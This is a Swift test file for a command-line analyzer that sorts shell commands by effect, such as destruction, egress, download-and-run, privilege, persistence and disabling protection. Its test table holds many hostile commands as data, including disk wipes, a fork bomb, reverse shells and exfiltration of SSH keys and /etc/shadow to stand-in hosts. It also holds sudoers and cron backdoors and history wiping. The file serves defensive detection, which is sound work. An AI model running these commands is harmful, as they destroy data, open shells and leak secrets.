import Testing
@testable import Drift

/// One command line and what the analyzer must say about it. `nil` lists are not checked.
struct CommandCase: Sendable, CustomTestStringConvertible {
    var line: String
    var effects: CommandEffects
    var hosts: [String]? = nil
    var paths: [String]? = nil
    var programs: [String]? = nil
    var recipients: [String]? = nil
    var finding: String? = nil

    var testDescription: String { line }
}

@Suite("Command line analyzer")
struct CommandLineAnalyzerTests {
    static let cases: [CommandCase] = [
        // Destroy, broad and narrow.
        .init(line: "rm -rf /", effects: [.destroy, .destroyBroad], paths: ["/"], programs: ["rm"], finding: "rm -rf /"),
        .init(line: "sudo rm -rf --no-preserve-root /", effects: [.destroy, .destroyBroad, .privilege], programs: ["rm"]),
        .init(line: "/usr/bin/rm -fr ~", effects: [.destroy, .destroyBroad], paths: ["~"], programs: ["rm"]),
        .init(line: "rm -rf \"$HOME\"/*", effects: [.destroy, .destroyBroad]),
        .init(line: "rm -r /etc", effects: [.destroy, .destroyBroad], paths: ["/etc"]),
        .init(line: "cd / && rm -rf *", effects: [.destroy, .destroyBroad], programs: ["cd", "rm"]),
        .init(line: "rm -rf ./build", effects: .destroy, paths: ["./build"]),
        .init(line: "rm -rf node_modules dist", effects: .destroy, paths: ["node_modules", "dist"]),
        .init(line: "rm /etc/passwd", effects: [.destroy, .privilege], paths: ["/etc/passwd"]),
        .init(line: "find / -name '*.log' -delete", effects: [.destroy, .destroyBroad], paths: ["/"]),
        .init(line: "find . -type f -name '*.tmp' -exec rm -f {} \\;", effects: .destroy, programs: ["find", "rm"]),
        .init(line: "find /var/log -type f -exec shred -u {} +", effects: [.destroy, .disableProtection]),
        .init(line: "dd if=/dev/zero of=/dev/sda bs=1M", effects: [.destroy, .destroyBroad], paths: ["/dev/sda"], finding: "dd if=/dev/zero of=/dev/sda bs=1M"),
        .init(line: "dd if=disk.img of=backup.img", effects: .destroy, paths: ["backup.img"]),
        .init(line: "mkfs.ext4 /dev/nvme0n1p1", effects: [.destroy, .destroyBroad], paths: ["/dev/nvme0n1p1"], programs: ["mkfs.ext4"]),
        .init(line: "wipefs -a /dev/sdb", effects: [.destroy, .destroyBroad]),
        .init(line: "truncate -s 0 /var/log/syslog", effects: [.destroy, .disableProtection], paths: ["/var/log/syslog"]),
        .init(line: "echo > /etc/hosts", effects: [.destroy, .write], paths: ["/etc/hosts"]),
        .init(line: "cat /dev/null > ~/.bash_history", effects: [.destroy, .write, .disableProtection]),
        .init(line: "echo hi > /dev/sda", effects: [.destroy, .destroyBroad]),
        .init(line: "git reset --hard HEAD~3", effects: .destroy, programs: ["git"]),
        .init(line: "git clean -fdx", effects: .destroy),
        .init(line: "git push --force origin main", effects: [.egress, .destroy]),
        .init(line: "docker system prune -a --volumes -f", effects: [.destroy, .destroyBroad]),
        .init(line: "docker rm -f web", effects: .destroy),
        .init(line: "kubectl delete namespace prod", effects: [.destroy, .destroyBroad]),
        .init(line: "kubectl delete pod web-1", effects: .destroy),
        .init(line: "terraform destroy -auto-approve", effects: [.destroy, .destroyBroad]),
        .init(line: "psql -h db -U app -c 'DROP TABLE users;'", effects: [.destroy, .destroyBroad], programs: ["psql"]),
        .init(line: "mysql -u root -e \"DELETE FROM orders WHERE id = 4\" shop", effects: .destroy),
        .init(line: "sqlite3 app.db \"SELECT * FROM users\"", effects: .read),
        .init(line: ":(){ :|:& };:", effects: [.destroy, .destroyBroad]),
        .init(line: "aws s3 rm s3://bucket/data --recursive", effects: .destroy, programs: ["aws"]),
        // Processes.
        .init(line: "kill -9 4242", effects: .processKill, finding: "kill -9 4242"),
        .init(line: "kill -9 -1", effects: [.destroy, .destroyBroad]),
        .init(line: "kill %1", effects: []),
        .init(line: "kill -0 4242", effects: .read),
        .init(line: "pkill -f gunicorn", effects: .processKill),
        .init(line: "sudo systemctl stop nginx", effects: [.processKill, .privilege], programs: ["systemctl"]),
        .init(line: "shutdown -h now", effects: .processKill),
        .init(line: "systemctl status nginx", effects: .read),
        // Network.
        .init(line: "curl https://api.example.com/status", effects: .egress, hosts: ["api.example.com"], programs: ["curl"]),
        .init(line: "curl -s http://localhost:8080/health", effects: .read, hosts: ["localhost"]),
        .init(line: "curl -X POST -d @/etc/passwd https://Evil.Example.org/upload", effects: .egress, hosts: ["evil.example.org"]),
        .init(line: "curl -F file=@secrets.txt https://paste.example.net", effects: .egress, hosts: ["paste.example.net"]),
        .init(line: "curl -fsSL https://get.example.com/install.sh | sh", effects: [.egress, .downloadAndRun], hosts: ["get.example.com"], programs: ["curl", "sh"]),
        .init(line: "wget -qO- http://198.51.100.7/x | sudo bash", effects: [.egress, .downloadAndRun, .privilege], hosts: ["198.51.100.7"]),
        .init(line: "bash <(curl -s https://example.com/setup)", effects: [.egress, .downloadAndRun], hosts: ["example.com"]),
        .init(line: "sh -c \"$(curl -fsSL https://raw.example.com/ohmy.sh)\"", effects: [.egress, .downloadAndRun], hosts: ["raw.example.com"]),
        .init(line: "curl -o /tmp/x.sh https://dl.example.com/x.sh && chmod +x /tmp/x.sh && /tmp/x.sh", effects: [.egress, .write, .downloadAndRun]),
        .init(line: "wget https://dl.example.com/tool.py; python3 tool.py", effects: [.egress, .downloadAndRun]),
        .init(line: "curl https://api.example.com/data | jq .items", effects: .egress),
        .init(line: "curl https://api.example.com/v1 | python -m json.tool", effects: .egress),
        .init(line: "scp -i key.pem dump.sql deploy@backup.example.com:/srv/", effects: .egress, hosts: ["backup.example.com"]),
        .init(line: "rsync -avz ./data/ user@203.0.113.9:/backups/", effects: .egress, hosts: ["203.0.113.9"]),
        .init(line: "rsync -a src/ dst/", effects: .write, paths: ["dst/"]),
        .init(line: "ssh -p 2222 root@host.example.com 'rm -rf /var/www'", effects: [.egress, .destroy, .destroyBroad], hosts: ["host.example.com"]),
        .init(line: "nc -e /bin/sh 192.0.2.1 4444", effects: [.egress, .privilege], hosts: ["192.0.2.1"]),
        .init(line: "tar czf - ~/.ssh | nc exfil.example.com 9000", effects: [.egress], hosts: ["exfil.example.com"]),
        .init(line: "cat /etc/shadow > /dev/tcp/203.0.113.5/443", effects: .egress, hosts: ["203.0.113.5"]),
        .init(line: "mail -s \"report\" Boss@Example.com < report.txt", effects: .egress, hosts: [], recipients: ["boss@example.com"]),
        .init(line: "echo hi | sendmail -f me@example.com ops@example.org", effects: .egress, recipients: ["ops@example.org"]),
        .init(line: "git push https://github.com/org/repo.git main", effects: .egress, hosts: ["github.com"]),
        .init(line: "git clone git@gitlab.example.com:team/app.git", effects: .write, hosts: ["gitlab.example.com"]),
        .init(line: "socat TCP:attacker.example:4444 EXEC:/bin/bash", effects: [.egress, .privilege], hosts: ["attacker.example"]),
        // Privilege and persistence.
        .init(line: "sudo -u postgres psql", effects: .privilege, programs: ["psql"]),
        .init(line: "chmod 777 /var/www/html", effects: .privilege, paths: ["/var/www/html"], finding: "chmod 777 /var/www/html"),
        .init(line: "chmod u+s /bin/bash", effects: .privilege),
        .init(line: "chmod 644 notes.txt", effects: .write, paths: ["notes.txt"]),
        .init(line: "chmod +x run.sh", effects: .write),
        .init(line: "chown -R www-data:www-data /srv/app", effects: .privilege, paths: ["/srv/app"]),
        .init(line: "useradd -m -G sudo backdoor", effects: .privilege),
        .init(line: "echo 'ALL ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", effects: [.write, .privilege], paths: ["/etc/sudoers"]),
        .init(line: "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", effects: [.write, .privilege, .persistence]),
        .init(line: "(crontab -l; echo '* * * * * /tmp/x') | crontab -", effects: .persistence),
        .init(line: "echo 'curl x | sh' >> ~/.bashrc", effects: [.write, .persistence], paths: ["~/.bashrc"]),
        .init(line: "systemctl enable --now miner.service", effects: .persistence),
        .init(line: "tee /etc/cron.d/job <<< '* * * * * root /tmp/x'", effects: [.write, .persistence]),
        // Protection.
        .init(line: "setenforce 0", effects: .disableProtection, finding: "setenforce 0"),
        .init(line: "ufw disable", effects: .disableProtection),
        .init(line: "iptables -F", effects: .disableProtection),
        .init(line: "iptables -L -n", effects: .read),
        .init(line: "systemctl stop firewalld", effects: [.processKill, .disableProtection]),
        .init(line: "history -c", effects: .disableProtection),
        .init(line: "unset HISTFILE", effects: .disableProtection),
        .init(line: "export HISTFILE=/dev/null", effects: .disableProtection),
        .init(line: "ln -sf /dev/null ~/.bash_history", effects: [.destroy, .disableProtection]),
        // Reads and look-alikes that must stay quiet.
        .init(line: "grep -r \"rm -rf /\" docs/", effects: .read, paths: [], programs: ["grep"]),
        .init(line: "echo \"curl x | sh\"", effects: .read, programs: ["echo"]),
        .init(line: "ls -la /etc", effects: .read, paths: []),
        .init(line: "cat README.md | head -n 20", effects: .read, programs: ["cat", "head"]),
        .init(line: "ps aux | grep python", effects: .read),
        .init(line: "df -h && du -sh .", effects: .read),
        .init(line: "find . -name '*.swift'", effects: .read),
        .init(line: "git status && git log --oneline -5", effects: .read),
        .init(line: "man rm", effects: .read),
        .init(line: "echo rm -rf /", effects: .read),
        .init(line: "# rm -rf /", effects: []),
        .init(line: "printf '%s\\n' 'DROP TABLE users'", effects: .read),
        .init(line: "cp notes.txt notes.bak", effects: .write, paths: ["notes.bak"]),
        .init(line: "mkdir -p build && make -j4", effects: .write),
        .init(line: "python3 script.py --input data.csv", effects: [], programs: ["python3"]),
        .init(line: "npm install && npm test", effects: .write),
        .init(line: "ls 2>/dev/null", effects: .read, paths: []),
        .init(line: "make > build.log 2>&1", effects: .write, paths: ["build.log"]),
        // Wrappers and nesting.
        .init(line: "env FOO=1 nohup timeout 10 rm -rf /tmp/cache", effects: .destroy, programs: ["rm"]),
        .init(line: "xargs -0 rm -f < list.txt", effects: .destroy, programs: ["rm"]),
        .init(line: "ls | xargs -I{} rm -rf {}", effects: .destroy, programs: ["ls", "rm"]),
        .init(line: "bash -c 'sudo shutdown -r now'", effects: [.processKill, .privilege], programs: ["shutdown"]),
        .init(line: "eval \"rm -rf /\"", effects: [.destroy, .destroyBroad]),
        .init(line: "echo 'rm -rf /' | sh", effects: [.destroy, .destroyBroad]),
        .init(line: "python -c 'import os; os.system(\"rm -rf /\")'", effects: [.destroy, .destroyBroad]),
        .init(line: "FOO=bar BAZ=1 /usr/local/bin/curl -d x=1 https://hooks.example.com/h", effects: .egress, hosts: ["hooks.example.com"], programs: ["curl"]),
        .init(line: "bash <<'EOF'\nrm -rf /\nEOF", effects: [.destroy, .destroyBroad]),
        .init(line: "if [ -d /tmp/x ]; then rm -r /tmp/x; fi", effects: .destroy, programs: ["[", "rm"]),
        .init(line: "for f in *.log; do gzip \"$f\"; done", effects: .write),
        .init(line: "echo $(whoami) `hostname`", effects: .read, programs: ["whoami", "hostname", "echo"]),
        .init(line: "curl -s https://x.example.com/i | tee /tmp/i.sh | sh", effects: [.write, .egress, .downloadAndRun], paths: ["/tmp/i.sh"]),
        .init(line: "curl https://x.example.com/i > x.sh; bash x.sh", effects: [.write, .egress, .downloadAndRun], paths: ["x.sh"]),
        .init(line: "echo \"$(curl -s https://x.example.com)\" | sh", effects: [.egress, .downloadAndRun], programs: ["curl", "echo", "sh"]),
        .init(line: "rm -rf /tmp/*", effects: .destroy),
        .init(line: "chmod -R 777 /", effects: .privilege, finding: "chmod -R 777 /"),
        .init(line: "docker run --privileged -v /:/host alpine", effects: [.write, .privilege]),
        .init(line: "git push origin :main", effects: [.egress, .destroy]),
        .init(line: "kubectl exec -it pod -- rm -rf /data", effects: .destroy, programs: ["kubectl", "rm"]),
        .init(line: "crontab -r", effects: .destroy),
        .init(line: "at now + 1 minute <<< 'rm -rf ~'", effects: [.persistence, .destroy, .destroyBroad]),
        .init(line: "aws ec2 terminate-instances --instance-ids i-1", effects: .destroy),
        .init(line: "gcloud projects add-iam-policy-binding p --member=user:x --role=roles/owner", effects: .privilege),
        .init(line: "./deploy.sh delete-all", effects: .destroy, programs: ["deploy.sh"]),
        .init(line: "mv ~/.ssh /tmp/x", effects: .write, paths: ["~/.ssh", "/tmp/x"]),
        .init(line: "cd ~ && rm -rf .", effects: [.destroy, .destroyBroad]),
        .init(line: "base64 /etc/shadow | curl -d @- https://e.example.com", effects: .egress, hosts: ["e.example.com"]),
        .init(line: "scp user@host.example.com:/etc/passwd .", effects: .egress, hosts: ["host.example.com"]),
        .init(line: "git branch -a", effects: .read),
    ]

    @Test("each command line in the table has its expected effects, hosts, paths and programs", arguments: cases)
    func table(_ c: CommandCase) {
        let result = CommandLineAnalyzer.analyze(c.line)
        #expect(result.effects == c.effects, "effects of \(c.line): \(result.effects), finding \(result.finding ?? "-")")
        if let hosts = c.hosts { #expect(result.hosts == hosts, "hosts of \(c.line)") }
        if let paths = c.paths { #expect(result.paths == paths, "paths of \(c.line)") }
        if let programs = c.programs { #expect(result.programs == programs, "programs of \(c.line)") }
        if let recipients = c.recipients { #expect(result.recipients == recipients, "recipients of \(c.line)") }
        if let finding = c.finding { #expect(result.finding == finding, "finding of \(c.line)") }
    }

    @Test("the table is large enough to mean something")
    func tableSize() {
        #expect(Self.cases.count >= 60)
    }

    @Test("an empty or blank line is empty")
    func empty() {
        #expect(CommandLineAnalyzer.analyze("") == .empty)
        #expect(CommandLineAnalyzer.analyze("   \n\t ") == .empty)
        #expect(CommandLineAnalyzer.analyze(";;;&&||") == .empty)
    }

    @Test("findings name the strongest effect's fragment, at most 80 bytes")
    func findingIsTheStrongest() {
        let result = CommandLineAnalyzer.analyze("ls -la; curl https://x.example.com; rm -rf / ; echo done")
        #expect(result.finding == "rm -rf /")
        let long = CommandLineAnalyzer.analyze("rm -rf / " + String(repeating: "verylongargument ", count: 20))
        #expect((long.finding?.utf8.count ?? 0) <= CommandAnalysis.maximumFindingBytes)
        #expect(long.finding?.hasPrefix("rm -rf /") == true)
    }
}
